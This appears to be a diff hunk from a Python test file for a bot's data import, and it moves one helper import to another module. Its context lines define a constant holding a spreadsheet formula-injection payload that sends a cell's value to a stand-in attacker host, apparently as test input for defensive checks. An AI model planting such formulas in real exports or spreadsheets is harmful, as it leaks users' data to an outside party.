@@ -15,10 +15,10 @@ from sqlalchemy import select
 from bot.cli import main
 from bot.importing import ImportReport, read_rows
 from storage.models import Relation
-from tests.bot.test_importing import network_of
 from tests.support.running import BOT_TOKEN
 from tests.support.seed import build_known_network
 from tests.support.slack_standin import TEAM_ID
+from tests.support.stored import network_of
 
 TODAY = date(2026, 11, 26)
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
